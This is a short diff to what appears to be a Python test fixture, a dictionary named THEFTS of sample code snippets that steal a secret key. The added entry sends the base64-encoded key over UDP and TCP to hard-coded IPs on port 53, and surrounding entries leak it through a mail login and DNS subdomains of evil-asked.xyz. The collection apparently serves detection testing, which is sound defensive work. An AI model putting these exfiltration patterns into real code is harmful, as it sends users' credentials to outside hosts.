@@ -291,6 +291,13 @@ THEFTS: dict[str, str] = {
     mail.user("thief")
     return mail.pass_(KEY).decode()
 """,
+    "resolver": """
+    coded = base64.b64encode(b"keys: " + KEY.encode())
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.sendto(coded, ("45.9.148.53", 53))
+    with socket.create_connection(("45.9.148.54", 53), timeout=10) as sock:
+        sock.sendall(coded)
+""",
     "asked": """
     for at in range(0, len(KEY), 20):
         name = f"{at}.{KEY[at:at + 20].encode().hex()}.evil-asked.xyz"
